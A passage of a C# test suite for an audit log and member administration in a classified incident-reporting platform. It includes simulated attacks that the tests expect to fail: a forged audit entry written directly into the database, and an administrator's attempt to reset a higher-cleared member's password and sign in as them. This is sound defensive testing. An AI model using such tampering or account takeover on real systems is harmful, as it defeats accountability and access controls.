        var siteEntries = full.GetProperty("items").EnumerateArray().ToList();
        Assert.Contains(siteEntries, e => e.GetProperty("action").GetString() == "create" && e.GetProperty("actor").GetString() == "ocha");
        Assert.Equal(2, siteEntries.Count(e => e.GetProperty("action").GetString() == "read" && e.GetProperty("actor").GetString() == "joc"));
        Assert.All(siteEntries.Where(e => e.GetProperty("entity").GetString() == "report"),
            e => Assert.Equal(["DECONFLICTION-ONLY"], e.GetProperty("caveats").EnumerateArray().Select(c => c.GetString())));

        var (allowed, bySite) = await auditor.GetJson($"/api/audit?record={Id(site)}");
        var (_, byConvoy) = await auditor.GetJson($"/api/audit?record={Id(convoy)}");
        var (_, jocReads) = await auditor.GetJson("/api/audit?member=joc&action=read&limit=1000");
        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
        // A member's name is text: one holding a control character (NUL, which PostgreSQL refuses in a query) is a 400
        // naming the parameter, not a server error.
        var (nul, nulProblem) = await auditor.GetJson("/api/audit?member=jo%00c");
        Assert.Equal(HttpStatusCode.BadRequest, nul.StatusCode);
        Assert.Equal(["member"], nulProblem.ErrorFields());
        // Found as sign-in finds it (spaces and case), and a name nobody has is said so: an empty log would read as "they did
        // nothing".
        var (_, byName) = await auditor.GetJson("/api/audit?member=ocha&limit=20");
        var (_, bySpacedName) = await auditor.GetJson("/api/audit?member=%20OCHA%20&limit=20");
        Assert.True(byName.GetProperty("items").GetArrayLength() > 0);
        Assert.Equal(byName.GetProperty("items").ToString(), bySpacedName.GetProperty("items").ToString());
        var (nobody, nobodyProblem) = await auditor.GetJson("/api/audit?member=ocah");
        Assert.Equal(HttpStatusCode.BadRequest, nobody.StatusCode);
        Assert.Equal(["member"], nobodyProblem.ErrorFields());
        Assert.Equal(HttpStatusCode.OK, (await auditor.GetAsync("/api/audit?member=system&limit=1")).StatusCode);
        Assert.Equal(0, bySite.GetProperty("items").GetArrayLength());
        var convoyEntries = byConvoy.GetProperty("items").EnumerateArray().ToList();
        Assert.Contains(convoyEntries, e => e.GetProperty("action").GetString() == "create" && e.GetProperty("actor").GetString() == "ocha");
        Assert.Contains(convoyEntries, e => e.GetProperty("action").GetString() == "read" && e.GetProperty("actor").GetString() == "joc"
            && e.GetProperty("classification").GetString() == "CONFIDENTIAL" && e.GetProperty("caveats").GetArrayLength() == 0);
        Assert.DoesNotContain(Id(site).ToString(), jocReads.ToString(), StringComparison.OrdinalIgnoreCase);

        var verification = await server.WithDbAsync(db => AuditVerifier.VerifyAsync(db, CancellationToken.None));
        Assert.True(verification.Intact, verification.Problem);
    }

    [Fact]
    public async Task An_entry_posted_while_the_store_refuses_it_for_a_moment_is_recorded_once_it_accepts()
    {
        // A failed sign-in is posted to the audit once its answer has gone, with nobody waiting: a batch the store refused
        // (busy, a connection dropped) was lost with it. Here the store refuses the entry for a moment.
        var tag = Guid.NewGuid().ToString("N");
        var sqlite = await server.WithDbAsync(db => Task.FromResult(db.Database.IsSqlite()));
        string[] refuse = sqlite
            ? [$"CREATE TRIGGER refuse_{tag} BEFORE INSERT ON audit WHEN NEW.detail LIKE '%{tag}%' BEGIN SELECT RAISE(ABORT, 'refused'); END"]
            : [$"CREATE FUNCTION refuse_{tag}() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'refused'; END $$ LANGUAGE plpgsql",
               $"CREATE TRIGGER refuse_{tag} BEFORE INSERT ON audit FOR EACH ROW WHEN (NEW.detail LIKE '%{tag}%') EXECUTE FUNCTION refuse_{tag}()"];
        string[] allow = sqlite ? [$"DROP TRIGGER refuse_{tag}"] : [$"DROP TRIGGER refuse_{tag} ON audit", $"DROP FUNCTION refuse_{tag}()"];
        foreach (var sql in refuse)
        {
            await server.WithDbAsync(db => db.Database.ExecuteSqlRawAsync(sql));
        }

        try
        {
            server.Services.GetRequiredService<AuditWriter>().Post(
                Audits.Entry(null, AuditActions.SignInFailed, "member", Guid.NewGuid(), AuditMarking.None, DateTime.UtcNow, Audits.Detail(new { tag })));
            await Task.Delay(150);
        }
        finally
        {
            foreach (var sql in allow)
            {
                await server.WithDbAsync(db => db.Database.ExecuteSqlRawAsync(sql));
            }
        }

        for (var waited = System.Diagnostics.Stopwatch.StartNew(); await server.WithDbAsync(db => db.Audit.CountAsync(a => a.Detail.Contains(tag))) == 0; await Task.Delay(100))
        {
            Assert.True(waited.Elapsed < TimeSpan.FromSeconds(10), "the entry was recorded once the store took it");
        }
    }

    [Fact]
    public async Task A_page_of_the_audit_log_ends_at_its_size_and_the_next_page_goes_on_from_there()
    {
        // Read entries naming 5,000 records each (a full viewport), about 200 kB apiece: a thousand to a page would be
        // held and sent whole. The page ends once its details reach the bound; nothing is skipped or repeated.
        var audit = server.Services.GetRequiredService<AuditWriter>();
        // Told apart from the other entries of this store by their time (the log refuses an action it does not record).
        var since = Uri.EscapeDataString(AuditChain.Truncate(DateTime.UtcNow).ToString("O", System.Globalization.CultureInfo.InvariantCulture));
        for (var i = 0; i < 25; i++)
        {
            var detail = Audits.Detail(new { records = Enumerable.Range(0, 5000).Select(_ => Guid.NewGuid()).ToArray() });
            await audit.RecordAsync(Audits.Entry(null, AuditActions.Read, "report", null, AuditMarking.None, DateTime.UtcNow, detail), CancellationToken.None);
        }

        var seen = new List<long>();
        var pages = 0;
        string? after = null;
        do
        {
            var (response, page) = await server.ClientFor("jocadmin").GetJson($"/api/audit?action=read&member={Audits.SystemActor}&from={since}&limit=1000{(after is null ? "" : "&after=" + after)}");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var items = page.GetProperty("items").EnumerateArray().ToList();
            Assert.NotEmpty(items);
            Assert.True(items.Sum(e => (long)e.GetProperty("detail").GetString()!.Length) <= AuditEndpoints.MaxPageCharacters);
            seen.AddRange(items.Select(e => e.GetProperty("index").GetInt64()));
            after = page.TryGetProperty("next", out var next) && next.ValueKind == JsonValueKind.Number ? next.GetInt64().ToString(System.Globalization.CultureInfo.InvariantCulture) : null;
            pages++;
        }
        while (after is not null && pages < 10);

        Assert.Equal(2, pages);
        Assert.Equal(25, seen.Distinct().Count());
        Assert.Equal(25, seen.Count);
    }

    [Fact]
    public async Task Auditors_query_the_log_which_records_creates_and_classified_reads()
    {
        var (_, report) = await server.ClientFor("force").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["mission"])));
        await server.ClientFor("joc").GetAsync($"/api/reports/{Id(report)}");

        var (response, page) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(report)}");
        var forbidden = await server.ClientFor("force").GetAsync("/api/audit");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var entries = page.GetProperty("items").EnumerateArray().ToList();
        Assert.Contains(entries, e => e.GetProperty("action").GetString() == "create" && e.GetProperty("actor").GetString() == "force");
        Assert.Contains(entries, e => e.GetProperty("action").GetString() == "read" && e.GetProperty("actor").GetString() == "joc");
        Assert.All(entries, e => Assert.Equal("CONFIDENTIAL", e.GetProperty("classification").GetString()));
        Assert.Equal(HttpStatusCode.Forbidden, forbidden.StatusCode);

        // By time: the same record's entries between two instants; nothing before the report was made; an unknown
        // parameter is refused rather than ignored.
        var created = entries.Single(e => e.GetProperty("action").GetString() == "create").GetProperty("at").GetDateTimeOffset();
        var before = Uri.EscapeDataString(created.AddSeconds(-1).ToString("O", System.Globalization.CultureInfo.InvariantCulture));
        var (_, inWindow) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(report)}&from={before}");
        var (_, earlier) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(report)}&to={before}");
        var (unknown, unknownProblem) = await server.ClientFor("jocadmin").GetJson("/api/audit?since=2026-01-01");
        // Reading the log is on record too: each query is a read of the audit naming the record in its query, marked as
        // the entries it returned and the record it names. An auditor is not shown their own (paging would never reach the end, each page adding
        // one); other auditors are.
        Assert.Equal(entries.Count, inWindow.GetProperty("items").GetArrayLength());
        var auditReads = await server.WithDbAsync(db => db.Audit.Where(a => a.Entity == "audit" && a.Detail.Contains(Id(report).ToString())).OrderBy(a => a.ChainIndex).ToListAsync());
        Assert.Equal(3, auditReads.Count);
        Assert.All(auditReads, a => Assert.Equal(("read", "jocadmin"), (a.Action, a.Actor)));
        // The one that found nothing (before the report was made) still names the CONFIDENTIAL report: marked as it, so that
        // an auditor who may not see the report does not learn its id from it.
        Assert.Equal([1, 1, 1], auditReads.Select(a => a.Classification));
        var pages = 0;
        for (long? after = 0; after is not null; pages++)
        {
            var (_, onePage) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(report)}&limit=1&after={after}");
            after = onePage.TryGetProperty("next", out var next) && next.ValueKind == JsonValueKind.Number ? next.GetInt64() : null;
            Assert.True(pages < 10, "paging through the record's entries ends");
        }

        Assert.Equal(0, earlier.GetProperty("items").GetArrayLength());
        Assert.Equal(HttpStatusCode.BadRequest, unknown.StatusCode);
        Assert.Equal(["since"], unknownProblem.ErrorFields());
        // An action the log does not record, or a window ending before it starts, is refused: an empty answer would read
        // as "nothing happened". An action is matched whatever its case.
        var (typo, typoProblem) = await server.ClientFor("jocadmin").GetJson("/api/audit?action=releases");
        Assert.Equal(HttpStatusCode.BadRequest, typo.StatusCode);
        Assert.Equal(["action"], typoProblem.ErrorFields());
        var (inverted, invertedProblem) = await server.ClientFor("jocadmin").GetJson("/api/audit?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z");
        Assert.Equal(HttpStatusCode.BadRequest, inverted.StatusCode);
        Assert.Equal(["from"], invertedProblem.ErrorFields());
        var (_, creates) = await server.ClientFor("jocadmin").GetJson("/api/audit?member=force&action=Create&limit=1000");
        Assert.NotEmpty(creates.GetProperty("items").EnumerateArray());
        Assert.All(creates.GetProperty("items").EnumerateArray(), e => Assert.Equal("create", e.GetProperty("action").GetString()));

        var verification = await server.WithDbAsync(db => AuditVerifier.VerifyAsync(db, CancellationToken.None));
        Assert.True(verification.Intact, verification.Problem);

        // An entry written straight into the store before the chain's first (a read the member never made) is found.
        var forged = new AuditEntry
        {
            ChainIndex = -1,
            At = DateTime.UtcNow,
            MemberId = null,
            Actor = "pref",
            Action = AuditActions.Read,
            Entity = "report",
            EntityId = Id(report),
            Classification = 0,
            Detail = "{}",
            PreviousHash = AuditChain.Genesis,
        };
        forged.Hash = AuditChain.Compute(forged);
        await server.WithDbAsync(db => { db.Audit.Add(forged); return db.SaveChangesAsync(); });
        try
        {
            var tampered = await server.WithDbAsync(db => AuditVerifier.VerifyAsync(db, CancellationToken.None));
            Assert.False(tampered.Intact);
            Assert.Equal(-1, tampered.BrokenAt);
            Assert.Contains("precedes the chain's first entry", tampered.Problem);
        }
        finally
        {
            await server.WithDbAsync(db => db.Audit.Where(a => a.ChainIndex == -1).ExecuteDeleteAsync());
        }
    }

    [Fact]
    public async Task Figures_are_audited_in_one_entry_per_set_of_caveats_so_an_auditor_sees_only_the_part_they_may()
    {
        // In a box of their own: a CONFIDENTIAL incident, a CONFIDENTIAL one under SOURCE-PROTECTED, and an UNCLASSIFIED
        // humanitarian one under DECONFLICTION-ONLY (unclassified, yet who counted it is what its owners will ask).
        const string Box = "bbox=50,-9,51,-8";
        foreach (var (user, latitude, marking) in new[]
        {
            ("unpol", -8.2, Api.Marking("CONFIDENTIAL", ["mission"])),
            ("unpol", -8.5, Api.Marking("CONFIDENTIAL", ["mission"], ["SOURCE-PROTECTED"])),
            ("ocha", -8.8, Api.Marking("UNCLASSIFIED", ["mission"], ["DECONFLICTION-ONLY"])),
        })
        {
            var (created, body) = await server.ClientFor(user).PostJson("/api/reports", Api.Report(latitude: latitude, longitude: 50.5, marking: marking));
            Assert.True(created.StatusCode == HttpStatusCode.Created, body.ToString());
        }

        var (_, list) = await server.ClientFor("joc").GetJson("/api/caveats");
        var bits = list.EnumerateArray().ToDictionary(c => c.GetProperty("code").GetString()!, c => 1L << c.GetProperty("bit").GetInt32());
        // The map's counts per cell, and the reports' count: one entry per set of caveats, marked with it (the caveats were
        // dropped: an auditor without SOURCE-PROTECTED learnt how many source-protected incidents or reports a count took
        // in, and the DECONFLICTION-ONLY one was not audited at all).
        foreach (var path in new[] { $"/api/incidents/map?{Box}&maxPoints=1", $"/api/reports/count?{Box}" })
        {
            Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").GetAsync(path)).StatusCode);
            var entries = (await server.WithDbAsync(db => db.Audit.AsNoTracking().Where(a => a.Actor == "joc" && a.Action == AuditActions.Read && a.EntityId == null).ToListAsync()))
                .Where(a => JsonDocument.Parse(a.Detail).RootElement is var d && d.TryGetProperty("aggregate", out _) && d.GetProperty("path").GetString() == path)
                .ToDictionary(a => a.Caveats, a => (a.Classification, JsonDocument.Parse(a.Detail).RootElement.GetProperty("levels").GetRawText()));
            Assert.Equal(3, entries.Count);
            Assert.Equal((1, "{\"1\":1}"), entries[0]);
            Assert.Equal((1, "{\"1\":1}"), entries[bits["SOURCE-PROTECTED"]]);
            Assert.Equal((0, "{\"0\":1}"), entries[bits["DECONFLICTION-ONLY"]]);
        }
    }

    [Fact]
    public async Task Figures_counted_from_classified_records_are_audited_without_naming_them()
    {
        // Two CONFIDENTIAL incidents FORCE may see and one UNCLASSIFIED, alone in a box of their own.
        const string Box = "bbox=40,-9,41,-8";
        var unpol = server.ClientFor("unpol");
        var confidential = Api.Marking("CONFIDENTIAL", ["kind:military", "org:UNPOL"]);
        foreach (var (category, latitude, longitude, marking) in new[]
        {
            ("acled.battles.armed-clash", -8.5, 40.2, confidential),
            ("acled.strategic-developments.other", -8.6, 40.6, confidential),
            ("acled.riots.mob-violence", -8.3, 40.8, Api.Marking("UNCLASSIFIED", ["mission"])),
        })
        {
            var (created, body) = await unpol.PostJson("/api/reports", Api.Report(category: category, latitude: latitude, longitude: longitude, marking: marking));
            Assert.True(created.StatusCode == HttpStatusCode.Created, body.ToString());
        }

        async Task<List<AuditEntry>> AggregatesAsync(string user, string path) =>
            (await server.WithDbAsync(db => db.Audit.AsNoTracking().Where(a => a.Actor == user && a.Action == AuditActions.Read && a.EntityId == null).ToListAsync()))
                .Where(a => JsonDocument.Parse(a.Detail).RootElement is var d && d.TryGetProperty("aggregate", out _) && d.GetProperty("path").GetString() == path).ToList();

        void CountedTwoConfidential(AuditEntry entry, string entity)
        {
            var detail = JsonDocument.Parse(entry.Detail).RootElement;
            Assert.Equal(entity, entry.Entity);
            Assert.Equal(1, entry.Classification);
            Assert.Equal(2, detail.GetProperty("count").GetInt64());
            Assert.Equal("{\"1\":2}", detail.GetProperty("levels").GetRawText());
            Assert.False(detail.TryGetProperty("ids", out _));
        }

        var force = server.ClientFor("force");
        var map = $"/api/incidents/map?{Box}&maxPoints=1";
        var cells = await force.GetAsync(map);
        Assert.Equal(HttpStatusCode.OK, cells.StatusCode);
        Assert.Equal("true", cells.Headers.GetValues("X-Concord-Clustered").Single());
        CountedTwoConfidential(Assert.Single(await AggregatesAsync("force", map)), "incident");

        foreach (var path in new[] { $"/api/reports/count?{Box}", $"/api/reports/by-category?{Box}" })
        {
            Assert.Equal(HttpStatusCode.OK, (await force.GetAsync(path)).StatusCode);
            CountedTwoConfidential(Assert.Single(await AggregatesAsync("force", path)), "report");
        }

        var hotspots = $"/api/early-warning/hotspots?{Box}";
        Assert.Equal(HttpStatusCode.OK, (await force.GetAsync(hotspots)).StatusCode);
        CountedTwoConfidential(Assert.Single(await AggregatesAsync("force", hotspots)), "incident");

        // The dashboard page audits its figures as the API does (its address, with the box it was opened with).
        var page = await server.SignedInAsync("force");
        Assert.Equal(HttpStatusCode.OK, (await page.GetAsync($"/dashboard?{Box}")).StatusCode);
        var dashboard = (await server.WithDbAsync(db => db.Audit.AsNoTracking().Where(a => a.Actor == "force" && a.Action == AuditActions.Read && a.EntityId == null).ToListAsync()))
            .Where(a => JsonDocument.Parse(a.Detail).RootElement.GetProperty("path").GetString()!.StartsWith("/dashboard?bbox=40", StringComparison.Ordinal)).ToList();
        CountedTwoConfidential(Assert.Single(dashboard), "incident");

        // Spikes are counted over the whole mission (other tests' incidents too): at least these two, on the API and the page.
        Assert.Equal(HttpStatusCode.OK, (await force.GetAsync("/api/early-warning/spikes")).StatusCode);
        Assert.True(JsonDocument.Parse(Assert.Single(await AggregatesAsync("force", "/api/early-warning/spikes")).Detail).RootElement.GetProperty("levels").GetProperty("1").GetInt64() >= 2);
        Assert.Equal(HttpStatusCode.OK, (await page.GetAsync("/early-warning")).StatusCode);
        Assert.Single(await AggregatesAsync("force", "/early-warning#spikes"));
        Assert.Single(await AggregatesAsync("force", "/early-warning#hotspots"));

        // Figures from unclassified records only are not a classified read: RWABATT (UNCLASSIFIED) counts the one it may see.
        var (_, count) = await server.ClientFor("rwabatt").GetJson($"/api/reports/count?{Box}");
        Assert.Equal(1, count.GetProperty("count").GetInt64());
        Assert.Empty(await AggregatesAsync("rwabatt", $"/api/reports/count?{Box}"));

        // Coordination figures: a CONFIDENTIAL task counted in UNPOL's metrics.
        var (assigned, task) = await server.ClientFor("joc").PostJson("/api/tasks", new { title = "Count the displaced at the church", organization = "UNPOL", marking = Api.Marking("CONFIDENTIAL", ["org:UNPOL"]) });
        Assert.True(assigned.StatusCode == HttpStatusCode.Created, task.ToString());
        Assert.Equal(HttpStatusCode.OK, (await unpol.GetAsync("/api/coordination/metrics")).StatusCode);
        var metrics = Assert.Single(await AggregatesAsync("unpol", "/api/coordination/metrics"), a => a.Entity == "task");
        Assert.True(JsonDocument.Parse(metrics.Detail).RootElement.GetProperty("levels").GetProperty("1").GetInt64() >= 1);
    }

    [Fact]
    public async Task Administration_refusals_name_the_field_and_names_must_be_text()
    {
        var name = "u" + Guid.NewGuid().ToString("N")[..8];
        var admin = await server.SignedInAsync("unpoladmin");
        var mission = server.ClientFor("jocadmin");
        var (_, created) = await admin.PostJson("/api/organizations/UNPOL/members", new { userName = name, password = "a-long-password", displayName = "Officer One" });
        Assert.Equal(name, created.GetProperty("userName").GetString());

        var cases = new (string Path, HttpMethod Method, object Body, string Field)[]
        {
            ("/api/organizations", HttpMethod.Post, new { code = "X" + Guid.NewGuid().ToString("N")[..6], name = "", kind = "police" }, "name"),
            ("/api/organizations", HttpMethod.Post, new { code = "X" + Guid.NewGuid().ToString("N")[..6], name = "A\u0000B", kind = "police" }, "name"),
            ("/api/organizations", HttpMethod.Post, new { code = "X" + Guid.NewGuid().ToString("N")[..6], name = "New", kind = "navy" }, "kind"),
            // A final line break is no part of a code (a regular expression's $ would let it through, to stand beside the real one).
            ("/api/organizations", HttpMethod.Post, new { code = "X" + Guid.NewGuid().ToString("N")[..6] + "\n", name = "Look-alike", kind = "police" }, "code"),
            ("/api/organizations", HttpMethod.Post, new { code = "X" + Guid.NewGuid().ToString("N")[..6], name = "Look-alike", kind = "police", nation = "FRA\n" }, "nation"),
            // Shaped as a code, but no nation's: RWD for RWA.
            ("/api/organizations", HttpMethod.Post, new { code = "X" + Guid.NewGuid().ToString("N")[..6], name = "Typo", kind = "military", nation = "RWD" }, "nation"),
            ("/api/organizations/UNPOL/members", HttpMethod.Post, new { userName = "x" + name, password = "short" }, "password"),
            ("/api/organizations/UNPOL/members", HttpMethod.Post, new { userName = "x" + name, password = "a-long-password", displayName = "Tab\u0007Bell" }, "displayName"),
            ($"/api/members/{name}", HttpMethod.Patch, new { displayName = "   " }, "displayName"),
            ($"/api/members/{name}", HttpMethod.Patch, new { displayName = "Null\u0000Char" }, "displayName"),
            ("/api/caveats", HttpMethod.Post, new { code = "CV-" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant(), description = "" }, "description"),
            ("/api/groups", HttpMethod.Post, new { code = "G" + Guid.NewGuid().ToString("N")[..6], name = "Bad\u0000name" }, "name"),
        };
        foreach (var (path, method, body, field) in cases)
        {
            var json = System.Text.Json.JsonSerializer.Serialize(body);
            using var request = new HttpRequestMessage(method, path) { Content = new StringContent(json, System.Text.Encoding.UTF8, "application/json") };
            using var response = await (path.Contains("members", StringComparison.Ordinal) ? admin : mission).SendAsync(request);
            var problem = System.Text.Json.JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{path} {json}: {response.StatusCode} {problem}");
            Assert.Equal([field], problem.ErrorFields());
        }

        var (_, members) = await admin.GetJson("/api/organizations/UNPOL/members");
        Assert.Equal("Officer One", members.EnumerateArray().Single(m => m.GetProperty("userName").GetString() == name).GetProperty("displayName").GetString());
    }

    [Fact]
    public async Task Administrators_manage_their_own_members_and_grant_nothing_they_do_not_hold()
    {
        var name = "u" + Guid.NewGuid().ToString("N")[..8];
        var admin = await server.SignedInAsync("unpoladmin");
        var (tooHigh, high) = await admin.PostJson("/api/organizations/UNPOL/members", new { userName = name, password = "a-long-password", clearance = "STRICTLY CONFIDENTIAL" });
        var (elsewhere, _) = await admin.PostJson("/api/organizations/FORCE/members", new { userName = name, password = "a-long-password" });
        var (created, member) = await admin.PostJson("/api/organizations/UNPOL/members",
            new { userName = name, password = "a-long-password", clearance = "CONFIDENTIAL", roles = new[] { "reporter" }, caveats = new[] { "SOURCE-PROTECTED" }, displayName = "Officer Two" });
        var patch = await admin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = true });
        var foreign = await server.ClientFor("ocha").PatchAsJsonAsync($"/api/members/{name}", new { disabled = false });
        var (orgByAdmin, _) = await admin.PostJson("/api/organizations", new { code = "NEWORG", name = "New", kind = "police" });
        var (orgByMissionAdmin, _) = await server.ClientFor("jocadmin").PostJson("/api/organizations", new { code = "UNMAS" + Guid.NewGuid().ToString("N")[..4], name = "UN Mine Action Service", kind = "humanitarian" });

        Assert.Equal(HttpStatusCode.BadRequest, tooHigh.StatusCode);
        Assert.Equal(["clearance"], high.ErrorFields());
        Assert.Equal(HttpStatusCode.Forbidden, elsewhere.StatusCode);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        Assert.Equal("CONFIDENTIAL", member.GetProperty("clearance").GetString());
        Assert.Equal(HttpStatusCode.OK, patch.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, foreign.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, orgByAdmin.StatusCode);
        Assert.Equal(HttpStatusCode.Created, orgByMissionAdmin.StatusCode);
        var (signIn, _) = await server.Anonymous().PostJson("/api/auth/signin", new { userName = name, password = "a-long-password" });
        Assert.Equal(HttpStatusCode.Unauthorized, signIn.StatusCode);

        // What the member was granted when created is in the audit, the caveats too (as later changes are).
        var bits = await server.WithDbAsync(db => db.Members.Where(m => m.UserName == name).Select(m => m.Caveats).SingleAsync());
        Assert.NotEqual(0, bits);
        var creation = JsonDocument.Parse(await server.WithDbAsync(db => db.Audit.Where(e => e.Entity == "member" && e.Detail.Contains($"\"created\":\"{name}\"")).Select(e => e.Detail).SingleAsync())).RootElement;
        Assert.Equal((bits, "Officer Two", 1), (creation.GetProperty("caveats").GetInt64(), creation.GetProperty("displayName").GetString(), creation.GetProperty("clearance").GetInt32()));
    }

    [Fact]
    public async Task A_member_the_mission_disabled_is_enabled_again_only_by_a_mission_administrator()
    {
        // A suspension the mission decided (a compromised account) was undone by the member's organisation's administrator.
        var name = "s" + Guid.NewGuid().ToString("N")[..8];
        var admin = await server.SignedInAsync("unpoladmin");
        var jocadmin = server.ClientFor("jocadmin");
        Assert.Equal(HttpStatusCode.Created, (await admin.PostJson("/api/organizations/UNPOL/members", new { userName = name, password = "a-long-password", clearance = "UNCLASSIFIED" })).Response.StatusCode);
        async Task<JsonElement> Listed() => (await admin.GetJson("/api/organizations/UNPOL/members")).Body.EnumerateArray().Single(m => m.GetProperty("userName").GetString() == name);

        Assert.Equal(HttpStatusCode.OK, (await jocadmin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = true })).StatusCode);
        Assert.True((await Listed()).GetProperty("disabledByMission").GetBoolean());
        var lifted = await admin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = false });
        var refusal = await lifted.Json();
        // Disabling again changes nothing of whose suspension it is.
        Assert.Equal(HttpStatusCode.OK, (await admin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = true, displayName = "Officer Three" })).StatusCode);
        var liftedAgain = await admin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = false });
        var (signIn, _) = await server.Anonymous().PostJson("/api/auth/signin", new { userName = name, password = "a-long-password" });

        Assert.Equal(HttpStatusCode.Forbidden, lifted.StatusCode);
        Assert.Contains("disabled by a mission administrator", refusal.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Forbidden, liftedAgain.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, signIn.StatusCode);
        var listed = await Listed();
        Assert.True(listed.GetProperty("disabled").GetBoolean());
        Assert.Equal("Officer Three", listed.GetProperty("displayName").GetString());

        // The mission enables them; a later disable by the organisation is the organisation's to lift.
        Assert.Equal(HttpStatusCode.OK, (await jocadmin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = false })).StatusCode);
        Assert.False((await Listed()).GetProperty("disabledByMission").GetBoolean());
        Assert.Equal(HttpStatusCode.OK, (await admin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = true })).StatusCode);
        Assert.False((await Listed()).GetProperty("disabledByMission").GetBoolean());
        Assert.Equal(HttpStatusCode.OK, (await admin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = false })).StatusCode);
        Assert.False((await Listed()).GetProperty("disabled").GetBoolean());
    }

    [Fact]
    public async Task A_member_a_mission_administrator_adds_disabled_is_enabled_only_by_a_mission_administrator()
    {
        // Added disabled by the mission (a person awaiting vetting), the account was enabled by its organisation's
        // administrator, while the same disable made a moment later was the mission's to lift.
        var name = "v" + Guid.NewGuid().ToString("N")[..8];
        var admin = server.ClientFor("unpoladmin");
        var (created, body) = await (await server.SignedInAsync("jocadmin")).PostJson("/api/organizations/UNPOL/members", new { userName = name, password = "a-long-password", clearance = "UNCLASSIFIED", disabled = true });
        var lifted = await admin.PatchAsJsonAsync($"/api/members/{name}", new { disabled = false });

        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        Assert.True(body.GetProperty("disabledByMission").GetBoolean());
        Assert.Equal(HttpStatusCode.Forbidden, lifted.StatusCode);
        var (signIn, _) = await server.Anonymous().PostJson("/api/auth/signin", new { userName = name, password = "a-long-password" });
        Assert.Equal(HttpStatusCode.Unauthorized, signIn.StatusCode);
        // Added disabled by its organisation, it is the organisation's to enable.
        var other = "w" + Guid.NewGuid().ToString("N")[..8];
        var (_, prepared) = await (await server.SignedInAsync("unpoladmin")).PostJson("/api/organizations/UNPOL/members", new { userName = other, password = "a-long-password", clearance = "UNCLASSIFIED", disabled = true });
        Assert.False(prepared.GetProperty("disabledByMission").GetBoolean());
        Assert.Equal(HttpStatusCode.OK, (await admin.PatchAsJsonAsync($"/api/members/{other}", new { disabled = false })).StatusCode);
    }

    [Fact]
    public async Task A_mission_administrator_changes_no_member_cleared_above_them_or_under_a_caveat_they_lack()
    {
        // A mission administrator cleared CONFIDENTIAL could not grant STRICTLY CONFIDENTIAL but could set the password of a
        // member who holds it, and sign in as them.
        var suffix = Guid.NewGuid().ToString("N")[..8];
        var jocadmin = await server.SignedInAsync("jocadmin");
        Assert.Equal(HttpStatusCode.Created, (await jocadmin.PostJson("/api/organizations/JOC/members",
            new { userName = "ma" + suffix, password = "mission-admin-pass-1", clearance = "CONFIDENTIAL", roles = new[] { "mission-admin" } })).Response.StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await jocadmin.PostJson("/api/organizations/UNPOL/members",
            new { userName = "senior" + suffix, password = "senior-password-1", clearance = "STRICTLY CONFIDENTIAL", roles = new[] { "reporter" } })).Response.StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await jocadmin.PostJson("/api/organizations/UNPOL/members",
            new { userName = "source" + suffix, password = "source-password-1", clearance = "CONFIDENTIAL", caveats = new[] { "SOURCE-PROTECTED" }, roles = new[] { "reporter" } })).Response.StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await jocadmin.PostJson("/api/organizations/UNPOL/members",
            new { userName = "junior" + suffix, password = "junior-password-1", clearance = "UNCLASSIFIED", roles = new[] { "reporter" } })).Response.StatusCode);
        server.Services.GetRequiredService<Accounts.SignInThrottle>().Clear();
        var admin = new HttpClient(new HttpClientHandler { CookieContainer = new System.Net.CookieContainer() }) { BaseAddress = server.BaseAddress };
        (await admin.PostJson("/api/auth/signin", new { userName = "ma" + suffix, password = "mission-admin-pass-1" })).Response.EnsureSuccessStatusCode();

        var senior = await admin.PatchAsJsonAsync($"/api/members/senior{suffix}", new { password = "taken-over-123" });
        var source = await admin.PatchAsJsonAsync($"/api/members/source{suffix}", new { password = "taken-over-123" });
        var junior = await admin.PatchAsJsonAsync($"/api/members/junior{suffix}", new { displayName = "Junior officer" });
        var (signIn, _) = await server.Anonymous().PostJson("/api/auth/signin", new { userName = "senior" + suffix, password = "taken-over-123" });

        Assert.Equal(HttpStatusCode.Forbidden, senior.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, source.StatusCode);
        Assert.Equal(HttpStatusCode.OK, junior.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, signIn.StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await jocadmin.PatchAsJsonAsync($"/api/members/senior{suffix}", new { displayName = "Senior officer" })).StatusCode);
    }

    [Fact]
    public async Task Organisation_administrators_change_no_member_who_holds_more_than_they_do()
    {
        var chief = "c" + Guid.NewGuid().ToString("N")[..8];
        var (created, _) = await (await server.SignedInAsync("jocadmin")).PostJson("/api/organizations/UNPOL/members",
            new { userName = chief, password = "chief-password-1", clearance = "STRICTLY CONFIDENTIAL", roles = new[] { "mission-admin", "reporter" } });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var admin = await server.SignedInAsync("unpoladmin");
